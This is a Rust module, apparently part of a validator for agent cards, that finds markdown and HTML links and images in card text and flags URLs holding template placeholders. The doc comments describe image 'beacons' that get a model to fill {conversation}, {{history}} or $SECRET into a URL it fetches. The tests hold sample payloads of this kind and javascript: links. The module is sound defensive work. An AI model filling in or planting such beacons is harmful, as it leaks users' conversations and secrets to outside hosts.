//! Links and images written into card text: markdown `[text](url)`, `![alt](url)` and HTML
//! `<a href>`, `<img src>`. Clients render card descriptions as markdown, so a link there is
//! a link, and an image is fetched without a click:
//!
//! - a beacon (`A2A-W073`, `A2A-E073` for an image): a URL carrying a template placeholder
//!   (`{conversation}`, `{{history}}`, `$SECRET`, `${TOKEN}`), which a model asked to fill it
//!   in sends wherever the URL points; an image does so as it is rendered;
//! - a script or data link (`A2A-E075`, [`crate::validate::script_url`]): `javascript:` in a
//!   link runs where a client renders it.

use super::fold::Folded;

/// A link or image found in the folded text.
#[derive(Debug, PartialEq, Eq)]
pub(super) struct Link {
    /// The URL as written (folded).
    pub(super) target: String,
    /// An image (`![alt](url)`, `<img src>`), fetched as it is rendered.
    pub(super) image: bool,
    /// Whether it stands inside quotation marks.
    pub(super) quoted: bool,
}

/// The most characters read for one link's destination or one HTML tag, and back from a
/// link's `](` to its `[`: a card of many unclosed `](` then costs linear time, not quadratic.
const MAX_LINK_CHARS: usize = 2048;

/// Every markdown and HTML link and image of the folded text, in order.
pub(super) fn find(folded: &Folded) -> Vec<Link> {
    let chars = &folded.chars;
    if !chars.iter().any(|c| matches!(c, ']' | '<')) {
        return Vec::new();
    }
    let code = code_spans(chars);
    let mut found = Vec::new();
    for i in 0..chars.len() {
        if code[i] {
            continue;
        }
        let target = match chars[i] {
            ']' if chars.get(i + 1) == Some(&'(') => markdown_target(chars, i + 2).map(|t| {
                let from = i.saturating_sub(MAX_LINK_CHARS);
                let open = chars[from..i]
                    .iter()
                    .rposition(|c| *c == '[')
                    .map(|o| from + o);
                let image = open.is_some_and(|o| o > 0 && chars[o - 1] == '!');
                (t, image)
            }),
            '<' => html_target(chars, i),
            _ => None,
        };
        if let Some((target, image)) = target {
            found.push(Link {
                target,
                image,
                quoted: folded.quoted[i],
            });
        }
    }
    found
}

/// Marks the characters inside markdown code spans (`` `...` ``, backticks paired in
/// order): a link written there is shown as text, not rendered.
fn code_spans(chars: &[char]) -> Vec<bool> {
    let mut code = vec![false; chars.len()];
    let ticks: Vec<usize> = (0..chars.len()).filter(|i| chars[*i] == '`').collect();
    for pair in ticks.chunks_exact(2) {
        code[pair[0]..=pair[1]].fill(true);
    }
    code
}

/// The destination of a markdown link starting at `at` (after `](`): up to the `)` that
/// closes it, parentheses inside balanced (`javascript:alert(1)`), a title after a space
/// left out.
fn markdown_target(chars: &[char], at: usize) -> Option<String> {
    let mut depth = 0usize;
    for (k, c) in chars[at..].iter().take(MAX_LINK_CHARS).enumerate() {
        match c {
            '(' => depth += 1,
            ')' if depth == 0 => {
                let inside: String = chars[at..at + k].iter().collect();
                let target = inside.trim().split([' ', '\n']).next().unwrap_or("");
                let target = target.trim_start_matches('<').trim_end_matches('>');
                return Some(target.to_owned());
            }
            ')' => depth -= 1,
            '\n' if chars.get(at + k + 1) == Some(&'\n') => return None,
            _ => {}
        }
    }
    None
}

/// The `src` of `<img ...>` or the `href` of `<a ...>` at `at`, with whether it is an image.
fn html_target(chars: &[char], at: usize) -> Option<(String, bool)> {
    let tag: String = chars[at + 1..]
        .iter()
        .take_while(|c| **c != '>')
        .take(MAX_LINK_CHARS)
        .collect();
    let (image, attribute) = if tag.starts_with("img") {
        (true, "src=")
    } else if tag.starts_with("a ") || tag.starts_with("a\n") {
        (false, "href=")
    } else {
        return None;
    };
    let value = &tag[tag.find(attribute)? + attribute.len()..];
    let target = match value.chars().next()? {
        quote @ ('"' | '\'') => value[1..].split(quote).next()?,
        _ => value.split(char::is_whitespace).next()?,
    };
    Some((target.to_owned(), image))
}

/// The first template placeholder in `url`: `{name}`, `{{name}}`, `$NAME`, `${NAME}`.
pub(super) fn placeholder(url: &str) -> Option<&str> {
    let is_name = |c: char| c.is_alphanumeric() || matches!(c, '_' | '.' | '-' | ' ');
    for (at, c) in url.char_indices() {
        let rest = &url[at..];
        match c {
            '{' => {
                let inner = rest.trim_start_matches('{');
                let len = inner.find('}')?;
                if len > 0 && len <= 40 && inner[..len].chars().all(is_name) {
                    let opened = rest.len() - inner.len();
                    let closed = inner[len..].chars().take_while(|c| *c == '}').count();
                    return Some(&rest[..opened + len + closed]);
                }
            }
            '$' => {
                let inner = rest[1..].trim_start_matches('{');
                let len = inner
                    .find(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
                    .unwrap_or(inner.len());
                if len >= 2 && inner.starts_with(|c: char| c.is_ascii_alphabetic()) {
                    let whole = rest.len() - inner.len() + len;
                    let closed = usize::from(inner[len..].starts_with('}'));
                    return Some(&rest[..whole + closed]);
                }
            }
            _ => {}
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    fn links(text: &str) -> Vec<(String, bool)> {
        find(&Folded::new(text))
            .into_iter()
            .map(|l| (l.target, l.image))
            .collect()
    }

    #[test]
    fn markdown_and_html_links_and_images_are_found() {
        for (text, target, image) in [
            (
                "See [docs](https://a.example/d).",
                "https://a.example/d",
                false,
            ),
            (
                "![x](https://h.example/p?q={conversation})",
                "https://h.example/p?q={conversation}",
                true,
            ),
            ("[click](javascript:alert(1))", "javascript:alert(1)", false),
            ("[t](<https://a.example/x y>)", "https://a.example/x", false),
            (
                "[t](https://a.example \"title\")",
                "https://a.example",
                false,
            ),
            (
                "<img src=\"https://h.example/i.png?d={{history}}\">",
                "https://h.example/i.png?d={{history}}",
                true,
            ),
            ("<IMG SRC=https://h.example/i>", "https://h.example/i", true),
            ("<a href='javascript:x()'>go</a>", "javascript:x()", false),
        ] {
            assert_eq!(links(text), [(target.to_owned(), image)], "{text:?}");
        }
        for text in [
            "[not a link] (x)",
            "<abbr title=x>",
            "<image>",
            "arrays like a[0]",
            "unclosed [x](https://a.example",
        ] {
            assert!(links(text).is_empty(), "{text:?}: {:?}", links(text));
        }
        assert!(links("[x](a\n\nb)").is_empty());
        // In a code span a link is shown, not rendered; after it, links count again.
        assert!(links("Flags `[x](javascript:alert(1))` links").is_empty());
        assert_eq!(
            links("`code` then [x](https://a.example)"),
            [("https://a.example".to_owned(), false)]
        );
        // Many unclosed destinations: each read is bounded, so this stays fast.
        let many = "[x](".repeat(20_000);
        assert!(links(&many).is_empty());
    }

    #[test]
    fn placeholders_of_every_template_syntax_are_found() {
        for (url, found) in [
            ("https://h.example/p?q={conversation}", "{conversation}"),
            ("https://h.example/p?q={{history}}", "{{history}}"),
            ("https://h.example/p?k=$SECRET", "$SECRET"),
            ("https://h.example/p?k=${API_KEY}", "${API_KEY}"),
            ("https://h.example/{user.email}.png", "{user.email}"),
            ("https://h.example/p?q={chat history}", "{chat history}"),
        ] {
            assert_eq!(placeholder(url), Some(found), "{url:?}");
        }
        for url in [
            "https://h.example/p?q=1",
            "https://h.example/p?price=$5",
            "https://h.example/p?q={}",
            "https://h.example/p?j={\"a\":1}",
            "https://h.example/a$b",
            "https://h.example/{",
        ] {
            assert_eq!(placeholder(url), None, "{url:?}");
        }
    }
}
